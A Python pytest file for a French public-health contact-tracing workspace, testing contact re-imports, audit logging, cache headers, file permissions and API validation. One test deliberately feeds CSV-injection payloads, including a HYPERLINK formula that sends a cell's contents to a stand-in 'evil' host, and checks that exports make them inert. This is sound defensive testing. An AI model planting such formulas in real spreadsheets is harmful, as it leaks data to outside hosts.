"""What was entered is never lost: a re-import never erases a value with an empty cell and never silently undoes
a correction made by hand (it says what it changed and what it kept, to review); the import report stays in the
database, never in the session cookie; phone numbers and comments are stored whole or refused, never cut short."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from flask import Flask
from openpyxl import load_workbook
from sqlalchemy import select

from conftest import FROZEN_NOW
from prevention_cds.adapters.workspace_db import AuditEntry, ImportRecord, WorkspaceDatabase
from prevention_cds.app.services import services
from prevention_cds.workspace.contacts import as_row
from prevention_cds.workspace.errors import Invalid
from prevention_cds.workspace.i18n import say
from prevention_cds.workspace.service import Actor, Workspace
from prevention_cds.workspace.spreadsheet import inert
from support.workspace import Clock, login, workspace_app

NURSE = Actor("nurse", "editor")
HEADER = ("nom;prenom;date_naissance;sexe;poids_kg;date_pesee;situation;dernier_contact;grossesse;allergies;"
          "traitements;doses_ror;profession;telephone;commentaire\n")
SCHOOL_FILE = (HEADER
               + "Arnaud;Zoé;2018-02-11;F;26;;household;2026-11-19;;;;;;06 00 00 00 11;\n"
               + "Bernard;Lucas;12/07/2018;M;24,5;01/11/2026;household;2026-11-19;;;;;;06 00 00 00 12;\n").encode()


def _contact(workspace: Workspace, investigation_id: str, last_name: str) -> object:
    return next(r.contact for r in workspace.contact_rows(investigation_id) if r.contact.last_name == last_name)


def _edit(workspace: Workspace, investigation_id: str, last_name: str, **changes: str) -> int:
    contact = _contact(workspace, investigation_id, last_name)
    workspace.update_contact(NURSE, investigation_id, contact.id, as_row(contact) | changes)  # type: ignore[attr-defined]
    return int(contact.id)  # type: ignore[attr-defined]


def test_a_re_import_keeps_the_allergy_and_weight_corrected_by_hand(workspace: Workspace,
                                                                     investigation_id: str) -> None:
    workspace.import_contacts(NURSE, investigation_id, SCHOOL_FILE, "text/csv")
    zoe = _edit(workspace, investigation_id, "Arnaud", allergies="rifampicine", poids_kg="27",
                date_pesee="2026-11-20")
    again = workspace.import_contacts(NURSE, investigation_id, SCHOOL_FILE, "text/csv")
    contact = _contact(workspace, investigation_id, "Arnaud")
    assert json.loads(contact.allergies) == ["rifampicine"]  # type: ignore[attr-defined]
    assert (contact.weight_kg, contact.weighed_on) == ("27", "2026-11-20")  # type: ignore[attr-defined]
    assert again.counts == {"unchanged": 2, "to-review": 1}
    row = next(r for r in again.rows if r["contact_id"] == zoe)
    assert row["kept"] == ["poids_kg"] and row["changed"] == [] and row["name"] == "Arnaud Zoé"
    with workspace.db.session() as session:
        audit = {(e.action, e.detail) for e in session.scalars(select(AuditEntry).where(
            AuditEntry.target == f"{investigation_id}/contact/{zoe}"))}
    assert ("contact.import-kept", "kept=weight_kg,weighed_on") in audit
    assert any(a == "contact.update" and "allergies" in d and "weight_kg" in d for a, d in audit)
    assert not any("rifampicine" in d or "27" in d.split("=")[0] for _, d in audit)  # names of fields, no values


def test_an_empty_cell_never_erases_a_value(workspace: Workspace, investigation_id: str) -> None:
    workspace.import_contacts(NURSE, investigation_id, SCHOOL_FILE, "text/csv")
    blanks = (HEADER + "Arnaud;Zoé;2018-02-11;;;;household;2026-11-19;;;;;;;\n").encode()
    report = workspace.import_contacts(NURSE, investigation_id, blanks, "text/csv")
    assert report.counts == {"unchanged": 1}
    contact = _contact(workspace, investigation_id, "Arnaud")
    assert (contact.weight_kg, contact.phone, contact.setting, contact.sex) == (  # type: ignore[attr-defined]
        "26", "06 00 00 00 11", "household", "female")


def test_a_value_not_corrected_by_hand_is_updated_and_named(workspace: Workspace, investigation_id: str) -> None:
    workspace.import_contacts(NURSE, investigation_id, SCHOOL_FILE, "text/csv")
    _edit(workspace, investigation_id, "Arnaud", allergies="rifampicine")
    newer = SCHOOL_FILE.replace(b"F;26;;", b"F;28;2026-11-21;").replace(b";06 00 00 00 11;", b";06 00 00 00 99;")
    report = workspace.import_contacts(NURSE, investigation_id, newer, "text/csv")
    row = next(r for r in report.rows if r["status"] == "updated")
    assert row["changed"] == ["poids_kg", "telephone"] and row["kept"] == []
    contact = _contact(workspace, investigation_id, "Arnaud")
    assert (contact.weight_kg, contact.weighed_on) == ("28", "2026-11-21")  # type: ignore[attr-defined]
    assert json.loads(contact.allergies) == ["rifampicine"]  # type: ignore[attr-defined]


def test_a_long_phone_and_comment_are_stored_whole(workspace: Workspace, investigation_id: str) -> None:
    phone = "06 12 34 56 78 (mère) / 06 98 76 54 32 (père)"
    comment = "suivi " * 1000
    content = (HEADER + f"Durand;Léa;2016-03-14;F;30;;household;2026-11-19;;;;;;{phone};{comment}\n").encode()
    assert workspace.import_contacts(NURSE, investigation_id, content, "text/csv").counts == {"created": 1}
    contact = _contact(workspace, investigation_id, "Durand")
    assert contact.phone == phone and contact.comment == comment.strip()  # type: ignore[attr-defined]


def test_a_value_too_long_to_store_is_refused_never_cut(workspace: Workspace, investigation_id: str) -> None:
    content = (HEADER + f"Durand;Léa;2016-03-14;F;30;;household;2026-11-19;;;;;;{'0' * 201};\n").encode()
    report = workspace.import_contacts(NURSE, investigation_id, content, "text/csv")
    assert report.counts == {"rejected": 1}
    assert "telephone : 201 caractères" in say(report.rows[0]["errors"][0], "fr")
    with pytest.raises(Invalid):
        workspace.add_contact(NURSE, investigation_id, {"nom": "X" * 101, "prenom": "A", "situation": "household",
                                                        "dernier_contact": "2026-11-19"})


@pytest.fixture
def app(tmp_path: Path) -> Flask:
    return workspace_app(f"sqlite:///{tmp_path / 'ws.sqlite3'}", Clock(FROZEN_NOW))


def test_the_report_of_300_refused_rows_is_shown_and_kept_out_of_the_cookie(app: Flask) -> None:
    editor = login(app, "editor")
    created = editor.api("POST", "/api/investigations", json={"title": "t", "disease": "iim", "serogroup": "C"})
    base = f"/workspace/investigations/{created.json['id']}"
    rows = "".join(f"Nom{i};Prénom{i};2016-01-01;F;{i}kgs?;;household;2026-11-19;;;;;;;\n" for i in range(300))
    response = editor.post(f"{base}/import", data={"file": (io.BytesIO((HEADER + rows).encode()), "bad.csv")},
                           content_type="multipart/form-data")
    assert response.status_code == 302
    cookie = response.headers["Set-Cookie"]
    assert len(cookie) < 1000 and "kgs" not in cookie
    page = editor.client.get(base).get_data(as_text=True)
    assert "300 lignes refusées" in page and page.count("Ligne ") >= 300 and "poids « 299kgs? » illisible" in page
    assert "300 lignes refusées" not in editor.client.get(base).get_data(as_text=True)  # shown once
    ws = services(app).workspace
    with ws.db.session() as session:
        record_id = session.scalars(select(ImportRecord.id)).one()
    assert ws.import_report(Actor("editor", "editor"), created.json["id"], record_id) is not None
    assert ws.import_report(Actor("admin", "admin"), created.json["id"], record_id) is None  # only who imported


def test_line_lists_never_hold_a_formula(app: Flask) -> None:
    """OWASP "CSV Injection": a cell starting with = + - @ (or a tab, a carriage return) is inert in both files."""
    editor = login(app, "editor")
    created = editor.api("POST", "/api/investigations", json={"title": "t", "disease": "iim", "serogroup": "C"})
    base = f"/api/investigations/{created.json['id']}"
    hostile = [('=HYPERLINK("http://evil/?"&A1;"x")', "+Jean", "-2"), ("@SUM(1)", "-Marie", "+33 6 00 00 00 00")]
    for last_name, first_name, phone in hostile:
        response = editor.api("POST", f"{base}/contacts", json={
            "nom": last_name, "prenom": first_name, "date_naissance": "2010-01-01", "situation": "household",
            "dernier_contact": "2026-11-19", "poids_kg": "40", "telephone": phone})
        assert response.status_code == 201, response.json
    sheet = load_workbook(io.BytesIO(editor.client.get(f"{base}/line-list.xlsx").data)).active
    cells = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row if cell.value}
    for last_name, _, phone in hostile:
        assert cells[last_name] == "s" and cells[phone] == "s"  # a string, shown as written, never a formula
    assert "+Jean" in cells and "40" not in cells
    text = editor.client.get(f"{base}/line-list.csv").data.decode("utf-8-sig")
    lines = list(csv.reader(io.StringIO(text), delimiter=";"))
    values = {value for line in lines[1:] for value in line}
    assert {"'=HYPERLINK(\"http://evil/?\"&A1;\"x\")", "'+Jean", "'-2", "'@SUM(1)", "'-Marie",
            "'+33 6 00 00 00 00"} <= values
    assert not any(value[:1] in "=+-@\t\r" for value in values if value)


@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"), ("+Jean", "'+Jean"), ("-2", "'-2"), ("@SUM(1)", "'@SUM(1)"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("Jean-Marie", "Jean-Marie"), ("", ""), (None, ""), (3, 3)])
def test_a_cell_that_could_start_a_formula_is_made_inert(value: object, written: object) -> None:
    assert inert(value) == written


def test_no_workspace_answer_is_kept_by_a_cache(app: Flask) -> None:
    editor = login(app, "editor")
    created = editor.api("POST", "/api/investigations", json={"title": "t", "disease": "iim", "serogroup": "C"})
    base = f"/workspace/investigations/{created.json['id']}"
    contact = editor.api("POST", f"/api{base.removeprefix('/workspace')}/contacts", json={
        "nom": "Durand", "prenom": "Léa", "date_naissance": "2010-01-01", "situation": "household",
        "dernier_contact": "2026-11-19", "poids_kg": "40"}).json["id"]
    paths = ["/workspace/", base, f"{base}/contacts/{contact}", f"{base}/contacts/{contact}/edit",
             f"{base}/notification.html", f"{base}/line-list.csv", f"{base}/contacts/{contact}/information.pdf",
             f"/api{base.removeprefix('/workspace')}", f"/api{base.removeprefix('/workspace')}/contacts",
             "/workspace/investigations/nowhere", "/workspace/login"]
    for path in paths:
        response = editor.client.get(path)
        assert response.headers.get("Cache-Control") == "no-store", (path, response.status_code)
    assert "no-store" not in editor.client.get("/workspace/static/workspace.css").headers.get("Cache-Control", "")


def test_the_database_file_and_its_folder_are_private(tmp_path: Path) -> None:
    folder = tmp_path / "data" / "prevention-cds"
    db = WorkspaceDatabase(f"sqlite:///{folder / 'ws.sqlite3'}")
    db.upgrade()
    assert folder.stat().st_mode & 0o777 == 0o700
    for path in folder.iterdir():  # the database, its -wal and -shm
        assert path.stat().st_mode & 0o777 == 0o600, path.name


def test_delete_a_contact_and_a_group_and_reopen_an_investigation_through_the_api(app: Flask) -> None:
    editor, reader = login(app, "editor"), login(app, "reader")
    created = editor.api("POST", "/api/investigations", json={"title": "t", "disease": "iim", "serogroup": "C"})
    base = f"/api/investigations/{created.json['id']}"
    group = editor.api("POST", f"{base}/groups", json={"name": "CE2 B", "setting": "household",
                                                       "last_contact": "2026-11-19"}).json["id"]
    person = {"nom": "Durand", "prenom": "Léa", "date_naissance": "2010-01-01", "poids_kg": "40", "group_id": group}
    contact = editor.api("POST", f"{base}/contacts", json=person).json["id"]
    assert editor.api("DELETE", f"{base}/groups/{group}").status_code == 409  # it still has a contact
    assert reader.api("DELETE", f"{base}/contacts/{contact}").status_code == 403
    assert editor.api("DELETE", f"{base}/contacts/{contact}").status_code == 204
    assert editor.api("GET", f"{base}/contacts/{contact}").status_code == 404
    assert editor.api("GET", f"{base}/contacts").json["contacts"] == []
    assert editor.api("DELETE", f"{base}/contacts/{contact}").status_code == 404
    assert editor.api("DELETE", f"{base}/groups/{group}").status_code == 204
    assert editor.api("GET", base).json["groups"] == []
    again = editor.api("POST", f"{base}/groups", json={"name": "CE2 B", "setting": "household",
                                                       "last_contact": "2026-11-19"})
    assert again.status_code == 201  # the name is free again
    assert editor.api("POST", f"{base}/contacts", json=person | {"group_id": again.json["id"]}).status_code == 201
    assert editor.api("POST", f"{base}/reopen").status_code == 409  # not closed
    assert editor.api("POST", f"{base}/close").json["status"] == "closed"
    assert reader.api("POST", f"{base}/reopen").status_code == 403
    assert editor.api("POST", f"{base}/reopen").json["status"] == "open"
    assert len(editor.api("GET", f"{base}/contacts").json["contacts"]) == 1


def test_a_json_value_of_the_wrong_type_is_refused_never_dropped(app: Flask) -> None:
    editor = login(app, "editor")
    created = editor.api("POST", "/api/investigations", json={"title": "t", "disease": "iim", "serogroup": "C"})
    base = f"/api/investigations/{created.json['id']}"
    person = {"nom": "Durand", "prenom": "Léa", "situation": "household", "dernier_contact": "2026-11-19"}
    for wrong, named in (({"allergies": ["rifampicine"]}, "allergies"), ({"group_id": "3"}, "group_id"),
                         ({"poids_kg": None}, "poids_kg"), ({"group_id": True}, "group_id")):
        response = editor.api("POST", f"{base}/contacts", json=person | wrong)
        assert response.status_code == 400 and named in response.json["error"], response.json
    assert editor.api("POST", f"{base}/groups", json={"name": "A", "setting": "household",
                                                      "last_contact": "2026-11-19", "x": 1}).status_code == 400
    assert editor.api("POST", f"{base}/contacts?group_id=x", json=person).status_code == 400
    assert editor.api("GET", f"{base}/contacts").json["contacts"] == []


def test_a_weight_corrected_by_hand_keeps_its_own_weighing_date(workspace: Workspace, investigation_id: str) -> None:
    workspace.import_contacts(NURSE, investigation_id, SCHOOL_FILE, "text/csv")
    _edit(workspace, investigation_id, "Arnaud", poids_kg="27")  # the date left empty, as in the file
    dated = SCHOOL_FILE.replace(b"F;26;;", b"F;26;2026-10-01;")
    report = workspace.import_contacts(NURSE, investigation_id, dated, "text/csv")
    contact = _contact(workspace, investigation_id, "Arnaud")
    assert (contact.weight_kg, contact.weighed_on) == ("27", None)  # type: ignore[attr-defined]
    assert next(r for r in report.rows if r["kept"])["kept"] == ["poids_kg"]


def test_a_re_import_without_the_health_columns_keeps_what_the_team_stated(workspace: Workspace,
                                                                           investigation_id: str) -> None:
    """The health columns (immunodepression, porphyria...) are one stored field: a file that leaves them empty, or
    states one of them, keeps every other one as entered."""
    workspace.import_contacts(NURSE, investigation_id, SCHOOL_FILE, "text/csv")
    _edit(workspace, investigation_id, "Bernard", immunodepression="oui", immunodepression_nature="leucémie")
    report = workspace.import_contacts(NURSE, investigation_id, SCHOOL_FILE, "text/csv")
    assert report.counts == {"unchanged": 2}
    stated = json.loads(_contact(workspace, investigation_id, "Bernard").conditions)  # type: ignore[attr-defined]
    assert (stated["immunodeficiency"], stated["immunodeficiency-nature"]) == ("yes", "leucémie")
    with_porphyria = (HEADER.replace("\n", ";porphyrie\n")
                      + "Arnaud;Zoé;2018-02-11;F;26;;household;2026-11-19;;;;;;06 00 00 00 11;;oui\n").encode()
    workspace.import_contacts(NURSE, investigation_id, with_porphyria, "text/csv")
    assert json.loads(_contact(workspace, investigation_id, "Arnaud").conditions)[  # type: ignore[attr-defined]
        "porphyria"] == "yes"
